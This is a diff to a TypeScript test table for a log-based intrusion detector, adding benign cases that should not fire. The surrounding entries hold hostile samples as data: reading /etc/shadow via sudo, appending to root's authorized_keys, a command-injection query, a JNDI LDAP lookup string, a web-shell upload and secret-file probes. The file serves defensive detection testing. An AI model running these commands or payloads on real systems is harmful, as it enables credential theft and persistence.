@@ -240,6 +240,8 @@ const LINES: readonly (readonly [string, string | null])[] = [
   [sudo('/usr/sbin/visudo'), 'persistence_sudo_account_files'],
   [sudo('/bin/cat /etc/shadow'), 'credential_access_sudo_shadow_read'],
   [sudo('/usr/bin/crontab -e'), 'persistence_sudo_cron'],
+  [sudo('/usr/bin/crontab -u root -l'), null],
+  [sudo('/bin/cat /etc/crontab /etc/hosts'), null],
   [sudo('/usr/bin/tee -a /root/.ssh/authorized_keys'), 'persistence_sudo_authorized_keys'],
   [sudo('/usr/bin/nano /etc/ssh/sshd_config'), 'persistence_sudo_sshd_config'],
   [
@@ -268,6 +270,8 @@ const LINES: readonly (readonly [string, string | null])[] = [
   [web('GET /ping?ip=8.8.8.8;id'), 'execution_command_injection'],
   [web('GET /', 200, `$\{jndi:ldap://203.0.113.9/a}`), 'initial_access_jndi_lookup'],
   [web('POST /uploads/images/a.php'), 'persistence_web_shell'],
+  [web('POST /uploads/images/a.php', 404), null],
+  [web('GET /images/a.php.jpg'), null],
   [web('GET /.git/config', 404), 'credential_access_secret_file_probe'],
   [web('GET /.env'), 'credential_access_secret_file_served'],
   [
